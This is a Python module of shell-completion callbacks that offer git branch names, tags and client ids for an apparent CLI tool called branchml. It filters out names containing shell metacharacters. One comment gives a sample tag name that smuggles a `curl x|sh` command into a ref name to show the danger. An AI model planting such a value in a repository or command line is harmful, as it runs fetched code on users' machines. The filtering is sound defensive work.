"""Shell completion of names from the repository (typer's `autocompletion=` callbacks): branch
names, release tags and client ids, read with one bounded `git for-each-ref` each. A
completion never fails: outside a repository it offers nothing."""

from __future__ import annotations

import re
from pathlib import Path

import typer

from branchml.repo.refnames import ref_names


def _cwd(ctx: typer.Context) -> Path:
    """The folder `branchml -C DIR` names on the command line being completed, else here."""
    root = ctx.find_root()
    directory = root.params.get("directory") if root.params else None
    return Path(directory) if directory else Path(".")


# What a completion may offer. The shell puts the word into the command line as it is (bash
# does not quote it), and git allows `;`, `$(`, `` ` ``, `|`, `&` in ref names: a fetched tag
# `acme-v1;$(curl x|sh)` would run when the completed line is entered. Names with any other
# character are left out; they can still be typed, quoted.
SAFE_NAME = re.compile(r"[A-Za-z0-9._/+=@,-]+")


def _starting(names: list[str], incomplete: str) -> list[str]:
    return [n for n in names if n.startswith(incomplete) and SAFE_NAME.fullmatch(n)]


def branches(ctx: typer.Context, incomplete: str) -> list[str]:
    return _starting(ref_names(_cwd(ctx), "refs/heads/"), incomplete)


def tags(ctx: typer.Context, incomplete: str) -> list[str]:
    return _starting(ref_names(_cwd(ctx), "refs/tags/"), incomplete)


def revisions(ctx: typer.Context, incomplete: str) -> list[str]:
    """Where a branch, a commit or a release tag is asked for: branches, then tags."""
    return branches(ctx, incomplete) + tags(ctx, incomplete)


def clients(ctx: typer.Context, incomplete: str) -> list[str]:
    """Clients that were deployed (refs/deploy/CLIENT) or have a release tag (read with the
    repository's tag format)."""
    cwd = _cwd(ctx)
    found = set(ref_names(cwd, "refs/deploy/"))
    names = ref_names(cwd, "refs/tags/")
    if names:
        found.update(_tag_clients(cwd, names))
    return sorted(_starting(list(found), incomplete))


def _tag_clients(cwd: Path, names: list[str]) -> set[str]:
    from branchml.core.naming import DEFAULT_FORMAT, TagFormat
    from branchml.errors import BranchmlError

    try:
        from branchml.ops.release import tag_format
        from branchml.repo.reader import Git

        fmt = tag_format(Git(cwd))
    except BranchmlError:  # an unreadable config: the default format still names most
        fmt = TagFormat(DEFAULT_FORMAT)
    return {parsed[0] for parsed in map(fmt.parse, names) if parsed}
